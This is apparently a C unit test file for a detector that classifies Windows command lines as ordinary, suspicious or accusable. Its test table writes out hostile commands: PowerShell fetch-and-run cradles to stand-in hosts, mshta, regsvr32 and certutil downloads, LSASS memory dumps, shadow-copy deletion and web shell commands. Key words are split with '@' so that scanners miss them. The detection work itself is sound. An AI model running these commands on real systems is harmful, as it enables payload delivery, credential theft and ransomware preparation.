#include "test.h"

#include "base/num.h"
#include "detect/command_inner.h"

/* Lines are written with '@' inside telling words, taken out at run time: no scanner finds them here. "{...}" becomes base64 of UTF-16. */
static struct str made(struct arena *a, const char *line)
{
    static const char letter[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    uint8_t *p = NEW(a, uint8_t, 4 * strlen(line) + 16);
    size_t   n = 0;
    uint32_t bits = 0, have = 0;
    bool     inside = false;

    for (; *line; line++) {
        if (*line == '@')
            continue;
        if (*line == '{' || *line == '}') {
            if (inside && have)
                p[n++] = (uint8_t)letter[bits << (6 - have) & 63];
            while (inside && have && (have = (have + 8) % 6))
                p[n++] = '=';
            inside = *line == '{';
            bits = have = 0;
            continue;
        }
        for (int k = 0; k < (inside ? 2 : 1); k++) {
            uint8_t c = k ? 0 : (uint8_t)*line;
            if (!inside) {
                p[n++] = c;
                continue;
            }
            bits = bits << 8 | c;
            for (have += 8; have >= 6; have -= 6)
                p[n++] = (uint8_t)letter[bits >> (have - 6) & 63];
        }
    }
    return test_heap(p, n);
}

enum { ORD = COMMAND_ORDINARY, LOOK = COMMAND_LOOK, ACC = COMMAND_ACCUSE };
static const struct { const char *line; int stored, ran; const char *why; } rows[] = {
    /* What honest servers are full of. */
    { "C:\\Windows\\System32\\svchost.exe -k netsvcs -p", ORD, ORD, "a service of Windows" },
    { "%SystemRoot%\\system32\\rundll32.exe Startupscan.dll,SusRunTask", ORD, ORD, "a task of Windows" },
    { "%windir%\\system32\\rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask", ORD, ORD, "a task of Windows with a path" },
    { "\"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeHMHost.exe\"", ORD, ORD, "a service of Exchange" },
    { "C:\\Program Files\\Vendor Name\\agent.exe --service", ORD, ORD, "an unquoted path with blanks" },
    { "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File \"C:\\Scripts\\clean logs.ps1\" -Days 30", ORD, ORD, "an administrator's script" },
    { "powershell.exe -Command \"Get-ChildItem C:\\inetpub\\logs\\LogFiles -Recurse | Remove-Item\"", ORD, ORD, "log cleaning names a web folder and runs nothing there" },
    { "cmd.exe /c \"C:\\Scripts\\backup.cmd >> C:\\Windows\\Temp\\backup.log 2>&1\"", ORD, ORD, "the log is in an odd place, the script is not" },
    { "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2102.4-0\\MpCmdRun.exe -IdleTask", ORD, ORD, "Defender" },
    { "%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", ORD, ORD, "an updater that lives in a profile by design" },
    { "system32\\DRIVERS\\tcpip.sys", ORD, ORD, "a driver" },
    { "\\SystemRoot\\System32\\drivers\\ntfs.sys", ORD, ORD, "a driver" },
    { "msiexec.exe /x {}", ORD, ORD, "an uninstaller" },
    { "wscript.exe //B //NoLogo C:\\Windows\\System32\\slmgr.vbs /dlv", ORD, ORD, "a script of Windows" },
    { "regsvr32.exe /s C:\\Windows\\System32\\vendor.ocx", ORD, ORD, "a library registers itself" },
    { "reg.exe save HKLM\\SOFTWARE C:\\backup\\software.hiv", ORD, ORD, "a hive without passwords" },
    { "", ORD, ORD, "nothing" },
    { "\"\"", ORD, ORD, "nothing in quotes" },
    /* Worth a look. */
    { "C:\\ProgramData\\Vendor\\updater.exe", LOOK, LOOK, "products do that" },
    { "powershell -ExecutionPolicy Bypass -File C:\\inetpub\\scripts\\rotate.ps1", LOOK, LOOK, "a script beside a web site" },
    { "powershell -c \"iwr https://intranet.example/cron -UseBasicParsing\"", LOOK, LOOK, "a heartbeat" },
    { "power@shell -NoP -c \"i@ex ((New-Object Net.Web@Client).Download@String('https://community.chocolatey.org/install.ps1'))\"", LOOK, LOOK, "an installer that its publisher documents so" },
    { "powershell -EncodedCommand {Get-Date}", LOOK, LOOK, "encoded, but harmless" },
    { "C:\\x.exe", LOOK, LOOK, "directly on the drive" },
    { "net user helpdesk Passw0rd /add", LOOK, LOOK, "an account is added" },
    { "vssadmin list shadows", ORD, ORD, "only asks" },
    { "\\\\files01\\deploy\\setup.exe /q", LOOK, LOOK, "from another computer" },
    { "reg save HKLM\\SAM C:\\backup\\sam.hiv", LOOK, LOOK, "a hive with passwords" },
    { "powershell.exe -enc AAAA", LOOK, LOOK, "encoded, too short to say anything" },
    { "powershell.exe -e notes.txt", ORD, ORD, "no base64" },
    /* What nobody honest stores. */
    { "power@shell.exe -nop -w hidden -c \"I@EX (New-Object Net.Web@Client).Download@String('http://p.example.net/a')\"", ACC, ACC, "fetched and run" },
    { "power@shell -w 1 -e {i@ex (i@wr http://cdn.example.net/u.txt -UseBasicParsing)}", ACC, ACC, "the same, encoded" },
    { "cmd /c power^s^h^ell -no^p -c calc", ACC, LOOK, "carets between letters" },
    { "powershell -c \"& ('ca'+'lc'+'ul'+'at')\"", LOOK, LOOK, "pieces put together" },
    { "cmd.exe /c start /min power@shell -c \"i@ex (Get-Item@Property HKLM:\\Software\\Vendor).Value\"", ACC, LOOK, "kept in the registry" },
    { "C:\\Users\\Public\\svc.exe", ACC, LOOK, "a place where nobody installs programs" },
    { "\"C:\\Users\\Public\\a b.exe\" -k", ACC, LOOK, "the same with blanks" },
    { "C:\\Users\\All Users\\x.exe", ACC, LOOK, "ProgramData by its old name" },
    { "rundll32.exe C:\\ProgramData\\x.dll,Start", ACC, LOOK, "a library there" },
    { "rundll32 \"C:\\Program Files\\Vendor\\picture.png\",#1", ACC, LOOK, "a library that is called a picture" },
    { "C:\\ProgramData\\Vendor\\svchost.exe -k netsvcs", ACC, LOOK, "a name of Windows elsewhere" },
    { "m@shta.exe http://p.example.net/a.hta", ACC, ACC, "mshta" },
    { "C:\\Windows\\SysWOW64\\m@shta.exe vb@script:Close(0)", ACC, ACC, "mshta with script" },
    { "reg@svr32 /s /n /u /i:http://p.example.net/a.sct scro@bj.dll", ACC, ACC, "regsvr32 with a script" },
    { "cert@util.exe -url@cache -split -f http://203.0.113.9/a.exe C:\\Windows\\Temp\\a.exe", ACC, ACC, "certutil from a bare public address" },
    { "cert@util -url@cache -f http://crl.example.net/ca.crl ca.crl", ACC, LOOK, "typed once: maybe a test of a list" },
    { "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADM@IN$\\__1614761234.5 2>&1", ACC, ACC, "output to the own share" },
    { "%COMSPEC% /b /c start /b /min power@shell -nop -c \"i@ex((New-Object Net.Web@Client).Download@String('http://127.0.0.1:8080/'))\"", ACC, ACC, "a service that starts a shell" },
    { "\"cmd\" /c cd /d \"C:/inetpub/wwwroot/\"&whoami&echo [S]&cd&echo [E]", ACC, ACC, "a web shell's client" },
    { "rundll32.exe C:\\windows\\System32\\com@svcs.dll, Mini@Dump 624 C:\\windows\\temp\\l.dmp full", ACC, ACC, "memory of a process" },
    { "C:\\root\\proc@dump64.exe -accepteula -ma ls@ass.exe C:\\root\\l.dmp", ACC, ACC, "memory of the logon process" },
    { "vss@admin.exe delete shadows /all /quiet", ACC, ACC, "before encryption" },
    { "power@shell \"Get-Wmi@Object Win32_Shadow@Copy | ForEach-Object -Process ($_.Delete())\"", ACC, ACC, "the same in PowerShell" },
    { "power@shell -c i@ex (gc C:\\Vendor\\notes.txt)", LOOK, LOOK, "a script that is called a text" },
    { "cmd /V:ON /c \"set x=ca&&set y=lc&&call %x%%y%\"", LOOK, LOOK, "words from variables" },
    { "cmd /c set PATH=C:\\Tools;%PATH% && backup.cmd", ORD, ORD, "a variable set for a program" },
    { "C:\\Windows\\System32\\spool.txt:svc.exe", ACC, ACC, "a stream" },
    { "schtasks /create /tn Update /sc minute /ru SYSTEM /tr \"m@shta http://p.example.net/x\"", ACC, ACC, "a task that would be accused" },
    { "sc create upd binPath= \"C:\\Users\\Public\\u.exe\" start= auto", ACC, LOOK, "a service that would be accused" },
    { "wmic process call create \"rundll32 C:\\PerfLogs\\a.dll,x\"", ACC, LOOK, "by WMI" },
    { "forfiles /p c:\\windows\\system32 /m notepad.exe /c \"C:\\Users\\Public\\a.exe\"", ACC, LOOK, "by a program that starts others" },
    { "bits@admin /setnotify@cmdline job C:\\x\\y.exe NULL", ACC, ACC, "a transfer that starts a program" },
};

static void judges(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT_OF(rows); i++)
        for (int from = 0; from < 2; from++) {
            struct test_arena t = test_arena(1 << 20);
            struct err     e = { 0 };
            struct command c;
            struct str     line = made(&t.a, rows[i].line);
            CHECK_WHY(command_judge(&c, &t.a, line, (enum command_from)from, 'C', &e), rows[i].why);
            int want = from == COMMAND_STORED ? rows[i].stored : rows[i].ran;
            if ((int)c.verdict != want)
                fail_msg("%s (%s): got %d, want %d; %.*s", rows[i].why, from ? "ran" : "stored", (int)c.verdict, want, STR_ARG(command_why(&t.a, &c)));
            CHECK_WHY((c.reason_n > 0) == (c.verdict != COMMAND_ORDINARY) && (c.attack_n > 0) == (c.reason_n > 0), rows[i].why);
            test_free(line);
            test_arena_free(&t);
        }
}

static void tells(void **state)
{
    struct test_arena t = test_arena(1 << 20);
    struct err     e = { 0 };
    struct command c;
    (void)state;

    struct str line = made(&t.a, "%windir%\\System32\\WindowsPowerShell\\v1.0\\power@shell.exe -e {i@ex (i@wr http://cdn.example.net/u.txt)}");
    CHECK(command_judge(&c, &t.a, line, COMMAND_STORED, 'C', &e));
    CHECK_STR(c.image, STR("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"));
    CHECK_STR(c.url, STR("http://cdn.example.net/u.txt"));
    CHECK(str_ihas(c.decoded, STR("cdn.example.net")));
    CHECK(c.reason[0].grade == COMMAND_ACCUSE && strcmp(c.attack[0], "T1027.010") == 0);
    CHECK(str_starts(command_why(&t.a, &c), STR("It runs what it fetches from the network; it ")));
    test_free(line);

    line = TEST_HEAP("wscript.exe //e:vbscript \"C:\\ProgramData\\a b\\x.vbs\" 5");
    CHECK(command_judge(&c, &t.a, line, COMMAND_STORED, 'C', &e));
    CHECK_STR(c.image, STR("wscript.exe"));
    CHECK_STR(c.target, STR("C:\\ProgramData\\a b\\x.vbs"));
    test_free(line);

    line = TEST_HEAP("cmd.exe /c D:\\tools\\agent.exe -x");
    CHECK(command_judge(&c, &t.a, line, COMMAND_STORED, 'C', &e));
    CHECK_STR(c.target, STR("D:\\tools\\agent.exe"));
    CHECK(c.verdict == COMMAND_ORDINARY);
    test_free(line);
    test_arena_free(&t);
}

static void hosts(void **state)
{
    static const struct { const char *url, *host; bool public, known; } row[] = {
        { "http://cdn.example.net:8080/x", "cdn.example.net", false, false },   { "https://aka.ms/x", "aka.ms", false, true },
        { "https://aka.ms@p.example.net/x", "p.example.net", false, false },     { "https://notmicrosoft.com/", "notmicrosoft.com", false, false },
        { "https://go.microsoft.com/fwlink", "go.microsoft.com", false, true },  { "http://203.0.113.9/a", "203.0.113.9", true, false },
        { "http://192.168.1.9:81/a", "192.168.1.9", false, false },              { "http://3405803785/", "3405803785", true, false },
        { "http://[2001:db8::1]:80/", "[2001:db8::1]:80", false, false },
    };
    (void)state;
    for (size_t i = 0; i < COUNT_OF(row); i++) {
        bool       public = false;
        struct str host = command_host(str_c(row[i].url), &public);
        CHECK_STR(host, str_c(row[i].host));
        CHECK_WHY(public == row[i].public && command_known_host(host) == row[i].known, row[i].url);
    }
}

static void names(void **state)
{
    static const char *const random[] = { "xkqzvbrt", "TfKqWzQm", "a8F3kPq9Zx", "qwrtplkm" };
    static const char *const made_up[] = { "MSSQLSERVER", "Winnet", "GoogleUpdateTaskMachineUA", "OneDrive Standalone Update Task", "MpIdleTask", "VSSFullBackup", "SvcRestartTask",
                                           "BTOBTO", "Backup2021", "ScheduledDefrag", "Synchronize", "CreateExplorerShellUnelevatedTask" };
    (void)state;
    for (size_t i = 0; i < COUNT_OF(random); i++)
        CHECK_WHY(command_random_name(str_c(random[i])), random[i]);
    for (size_t i = 0; i < COUNT_OF(made_up); i++)
        CHECK_WHY(!command_random_name(str_c(made_up[i])), made_up[i]);
}

static bool sweep(struct arena *a, struct err *e)
{
    struct command c;

    return command_judge(&c, a, STR("cmd.exe /c powershell -e RwBlAHQALQBEAGEAdABlAA== & C:\\Users\\Public\\a.exe http://x.example/"), COMMAND_STORED, 'C', e);
}

static void faults(void **state)
{
    (void)state;
    fault_sweep(sweep, 1 << 20);
}

/* Long and twisted lines end, in little memory. */
static void bounds(void **state)
{
    struct test_arena t = test_arena(8u << 20);
    struct err     e = { 0 };
    struct command c;
    uint8_t       *p = malloc(100000);
    (void)state;

    static const char *const unit[] = { "cmd /c ", "\"", "%temp%", "^a", "'+'", "a&", "http://1/", "C:\\a ", "\\\\", "-e QQBB ", "$env:temp" };
    for (size_t i = 0; i < COUNT_OF(unit); i++) {
        size_t n = 0, len = strlen(unit[i]);
        for (; n + len <= 100000; n += len)
            memcpy(p + n, unit[i], len);
        struct arena scratch = t.a;
        CHECK_WHY(command_judge(&c, &scratch, (struct str){ p, n }, COMMAND_STORED, 'C', &e), unit[i]);
    }
    free(p);
    test_arena_free(&t);
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(judges), cmocka_unit_test(tells), cmocka_unit_test(hosts), cmocka_unit_test(names), cmocka_unit_test(faults), cmocka_unit_test(bounds) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
